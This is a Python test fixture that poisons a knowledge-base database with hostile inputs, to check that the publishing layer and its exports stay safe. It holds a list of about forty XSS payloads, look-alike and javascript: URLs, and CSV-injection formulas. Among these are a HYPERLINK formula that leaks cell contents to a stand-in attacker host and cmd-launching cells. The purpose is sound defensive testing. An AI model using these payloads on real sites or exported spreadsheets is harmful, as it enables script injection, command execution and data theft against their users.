"""A knowledge base full of hostile payloads, for the publishing tests (HTTP and Chromium).

Built the real way (snapshot records with payloads in titles, URLs and text → `import` → `build`),
then every free-text column of the built database is overwritten with payloads in turn, so fields
the parser would never let through (numbers, entity names, source URLs, parts…) carry them too:
the publishing layer must be safe whatever the database holds."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

# Each payload either pops a dialog (alert/confirm/prompt/print) or sets window.__kbXss when it executes.
PAYLOADS: tuple[str, ...] = (
    "<script>alert('xss-1')</script>",
    "</script><script>alert('xss-2')</script>",
    "</script><img src=x onerror=alert('xss-3')>",
    "<!--<script>alert('xss-4')</script>-->",
    "\"><script>alert('xss-5')</script>",
    "'><img src=x onerror=alert('xss-6')>",
    "\" onmouseover=\"alert('xss-7')\" x=\"",
    "' onfocus='alert(8)' autofocus='",
    "<img src=x onerror=alert('xss-9')>",
    "<svg onload=alert('xss-10')>",
    "<svg><script>alert('xss-11')</script></svg>",
    "<iframe src=\"javascript:alert('xss-12')\"></iframe>",
    "javascript:alert('xss-13')",
    "JaVaScRiPt:alert('xss-14')",
    " javascript:alert('xss-15')",
    "java\tscript:alert('xss-16')",
    "data:text/html,<script>alert('xss-17')</script>",
    "vbscript:msgbox('xss-18')",
    "<a href=\"javascript:alert('xss-19')\">click</a>",
    "<body onload=alert('xss-20')>",
    "<details open ontoggle=alert('xss-21')>",
    "<input autofocus onfocus=alert('xss-22')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-23')>",
    "{{ 7*7 }}{{ config }}<b>xss-24</b>",
    "{% raw %}{{ ''.__class__ }}{% endraw %}xss-25",
    "${alert('xss-26')}",
    "`-alert('xss-27')-`",
    "\\u003cscript\\u003ealert('xss-28')\\u003c/script\\u003e",
    "&lt;script&gt;alert('xss-29')&lt;/script&gt;",
    "<scr<script>ipt>alert('xss-30')</scr</script>ipt>",
    "<object data=\"javascript:alert('xss-31')\"></object>",
    "<embed src=\"javascript:alert('xss-32')\">",
    "<base href=\"javascript:alert('xss-33')//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss-34')\">",
    "<style>@import 'javascript:alert(35)';</style><b>xss-35</b>",
    "\u2028\u2029</script><script>window.__kbXss=36</script>",
    "<form action=\"javascript:alert('xss-37')\"><button>x</button></form>",
    "\"];alert('xss-38');//",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-39')>\">",
    "<template><script>alert('xss-40')</script></template>",
)

# URLs that must never become links (javascript:, data:, off-list hosts, look-alikes).
HOSTILE_URLS: tuple[str, ...] = (
    "javascript:alert('xss-url-1')",
    "JAVASCRIPT:alert('xss-url-2')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "https://evil.example/mofcom.gov.cn/",
    "https://mofcom.gov.cn.evil.example/x",
    "https://user:pw@exportcontrol.mofcom.gov.cn/x",
    "https://exportcontrol.mofcom.gov.cn/a\"onmouseover=\"alert('xss-url-7')",
)

# Spreadsheet formulas (CSV injection, OWASP): a cell starting with = + - @ TAB or CR runs when the export
# is opened in Excel / LibreOffice; `;` splits a cell in locales that use it as the separator.
FORMULA_PAYLOADS: tuple[str, ...] = (
    "=HYPERLINK(\"https://attacker.invalid/?leak=\"&A1,\"xss-f1\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 xss-f5",
    "\r=1+1 xss-f6",
    "x;=1+1;xss-f7",
)
# What poison() writes into the database's cells, in turn.
CELL_PAYLOADS = PAYLOADS + FORMULA_PAYLOADS

IMPORTABLE_URLS = tuple(u for u in HOSTILE_URLS if u.startswith("https://"))

# Columns left alone: keys, foreign keys, offsets, dates, enumerations the pages compute on.
KEEP = {"id", "document_id", "source_document_id", "target_document_id", "caused_by_document_id", "span_id",
        "ref_id", "attachment_of", "start", "end", "page", "start_date", "end_date", "signed_date", "posted_date",
        "effective_date", "date", "status", "relation", "kind", "digits", "doc_type", "text_sha256", "role",
        "control_code", "control_code_root", "hs_code", "operator", "value", "ordinal", "year", "number",
        "effective_on_publication", "on_publication", "known_only_by_reference", "cited_by_count", "relation_id",
        "action"}
SKIP_TABLES = {"search_index", "build_info"}


def snapshot_records() -> list[dict[str, object]]:
    """Records with payloads where the parser keeps them (title, URL, column, item text)."""
    records = []
    for i, payload in enumerate(PAYLOADS):
        number = 900 + i
        items = "\n".join(f"（{n}）1C90{n}.a．{payload}金属钐" for n in ("一",))
        records.append({
            # `import` refuses a source_url that is not http(s) (javascript:, data:): those reach the
            # database through poison() below.
            "source_url": IMPORTABLE_URLS[i % len(IMPORTABLE_URLS)] + f"/{i}" if i % 2 else
            f"https://exportcontrol.mofcom.gov.cn/x/{i}.html?q={payload}",
            "column": payload,
            "title": f"商务部公告2025年第{number}号 {payload}",
            "posted": "2025-04-04",
            "text": (f"【发布文号】商务部公告2025年第{number}号\n【发文日期】2025年04月04日\n"
                     f"决定对下列物项实施出口管制：{payload}\n一、1C902 钐相关物项{payload}\n{items}\n"
                     f"本公告自公布之日起正式实施。{payload}\n商务部\n2025年4月4日"),
            "attachments": [],
        })
    return records


def add_review_rows(db_path: Path) -> int:
    """One listed entity and one extraction check per document with a span, so the entity pages, the FtM
    export and the review page (/-/checks) have rows for poison() to fill; returns rows added."""
    from kb.facts import LIST_NAMES

    conn = sqlite3.connect(db_path)
    try:
        spans = list(conn.execute("select document_id, min(id) from spans group by document_id order by document_id"))
        for n, (doc_id, span_id) in enumerate(spans):
            conn.execute("insert into listed_entities (document_id, list_name, action, ordinal, name_zh, span_id) "
                         "values (?, ?, ?, 1, ?, ?)",
                         (doc_id, LIST_NAMES[n % len(LIST_NAMES)], "remove" if n % 3 == 2 else "add", f"实体{n}",
                          span_id))
            conn.execute('insert into extraction_checks (document_id, "check", expected, found, part, span_id) '
                         "values (?, 'entity_count', '14', '12', null, ?)", (doc_id, span_id))
        conn.commit()
    finally:
        conn.close()
    return 2 * len(spans)


def poison(db_path: Path) -> int:
    """Overwrite every free-text column of every row with a payload (rotating); returns cells changed."""
    conn = sqlite3.connect(db_path)
    changed = 0
    try:
        tables = [r[0] for r in conn.execute(
            "select name from sqlite_master where type = 'table' and name not like '%fts%' "
            "and name not like 'sqlite_%'")]
        for table in tables:
            if table in SKIP_TABLES:
                continue
            columns = [r[1] for r in conn.execute(f'pragma table_info("{table}")') if r[2].lower() == "text"]
            for column in columns:
                if column in KEEP:
                    continue
                rowids = [r[0] for r in conn.execute(f'select rowid from "{table}"')]
                for n, rowid in enumerate(rowids):
                    value = CELL_PAYLOADS[(n + len(column)) % len(CELL_PAYLOADS)]
                    if column in ("issuers", "source_urls", "aliases", "hs_codes", "flags", "branches"):
                        value = json.dumps([value, CELL_PAYLOADS[(n + 1) % len(CELL_PAYLOADS)]], ensure_ascii=False)
                    elif column == "source_url":
                        value = HOSTILE_URLS[n % len(HOSTILE_URLS)]
                    conn.execute(f'update "{table}" set "{column}" = ? where rowid = ?', (value, rowid))
                    changed += 1
        conn.commit()
    finally:
        conn.close()
    return changed


def build_hostile_kb(data_dir: Path) -> Path:
    """Samples + hostile records → archive → build → entity and check rows → poison; returns the database path."""
    from ingest.archive import Archive
    from ingest.snapshot_import import import_snapshot
    from kb.build import build
    from kb.paths import SAMPLES_DIR, DataDir

    data = DataDir(data_dir)
    archive = Archive(data.archive)
    for file in sorted(SAMPLES_DIR.glob("*.jsonl")):
        import_snapshot(file, archive)
    hostile = data_dir / "hostile.jsonl"
    hostile.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in snapshot_records()),
                       encoding="utf-8")
    import_snapshot(hostile, archive)
    build(data.archive, data.db)
    add_review_rows(data.db)
    poison(data.db)
    return data.db
